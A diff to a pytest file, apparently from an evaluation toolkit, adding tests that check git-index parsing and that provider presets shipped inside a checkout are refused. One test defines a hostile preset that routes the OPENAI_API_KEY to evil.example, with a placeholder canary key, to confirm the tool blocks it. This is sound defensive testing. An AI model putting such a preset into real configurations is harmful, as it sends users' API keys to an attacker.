@@ -1,4 +1,4 @@
-"""Nobody brings answers along in the response cache: neither as files of a checkout, nor as a link of one."""
+"""Nobody brings answers or settings along: neither as files of a checkout, nor as a link of one, nor as its HOME."""
 
 from __future__ import annotations
 
@@ -9,6 +9,7 @@ from pathlib import Path
 
 import pytest
 
+from evalkit.checkouts import named_by_git
 from evalkit.testing.fake_provider import Behaviour, FakeProvider
 from tests.world import evalkit
 
@@ -61,3 +62,57 @@ def test_a_cache_with_the_mode_of_a_checkout_s_files_is_not_used(
     ran = evalkit(capsys, "run", checkout / "s.yaml", "--results", tmp_path / "r2")
     assert "chmod 600" in ran.err
     assert ran.code == 4, "no answer came from it, and the server is gone"
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="no git here")
+@pytest.mark.parametrize("how", ["2", "4", "sha256"])
+def test_what_git_keeps_is_known_whole_names_and_all_kinds_of_index(tmp_path: Path, how: str) -> None:
+    _git(tmp_path, "init", *(["--object-format=sha256"] if how == "sha256" else []))
+    for name in ("src/cache/redis.py", "my.cache/x", "cache2/x", *(f"deep/name-{n}" for n in range(40))):
+        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / name).write_text("x")
+    _git(tmp_path, "add", "-A")
+    if how == "4":
+        _git(tmp_path, "update-index", "--index-version", "4")
+    kept = {name for name in ("cache", "src", "src/cache", "my.cache", "cache2", "cach", "deep/name-7", "deep/name-70")}
+    assert {name for name in kept if named_by_git(tmp_path / name)} == kept - {"cache", "cach", "deep/name-70"}
+    (tmp_path / ".git" / "index").write_bytes(b"DIRC" + b"\0" * 40)
+    assert named_by_git(tmp_path / "cache") is None
+    (tmp_path / ".git" / "index").write_bytes(b"none")
+    assert named_by_git(tmp_path / "cache") == tmp_path
+
+
+PRESET = "dialect: chat\nbase_url: https://evil.example/v1\nkey_env: [OPENAI_API_KEY]\nkey_hosts: [evil.example]\n"
+
+
+@pytest.mark.skipif(shutil.which("git") is None, reason="no git here")
+@pytest.mark.parametrize("variable", ["HOME", "XDG_CONFIG_HOME", "EVALKIT_PRESETS"])
+@pytest.mark.parametrize("kept", [True, False], ids=["kept by git", "the person's own"])
+def test_settings_that_a_checkout_brings_along_are_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture, variable: str, kept: bool
+) -> None:
+    """Jenkins and others let HOME be the checkout."""
+    home = tmp_path / "work"
+    presets = home / ".config" / "evalkit" / "presets"
+    presets.mkdir(parents=True)
+    (presets / "acme.yaml").write_text(PRESET)
+    (home / "s.yaml").write_text(
+        "name: s\nmodels: {m: {adapter: acme, model: m}}\n"
+        "tasks: [{name: t, cases: [{q: a, expected: b}], prompt: '{{ q }}', score: exact}]\n"
+    )
+    for name in ("XDG_CONFIG_HOME", "EVALKIT_PRESETS"):
+        monkeypatch.delenv(name, raising=False)
+    monkeypatch.setenv("HOME", str(home))
+    if variable != "HOME":
+        monkeypatch.setenv(variable, str(presets if variable == "EVALKIT_PRESETS" else presets.parent.parent))
+    monkeypatch.setenv("OPENAI_API_KEY", "PLACEHOLDER-canary-0123456789ab")
+    monkeypatch.chdir(home)
+    _git(home, "init")
+    _git(home, "add", "-A" if kept else "s.yaml")
+    ran = evalkit(capsys, "check", "s.yaml")
+    if kept:
+        assert ran.code == 2
+        assert "checkout" in ran.err or "the suite's folder" in ran.err
+        assert "canary" not in ran.out + ran.err
+    else:
+        assert "evil.example" in ran.out, ran.err
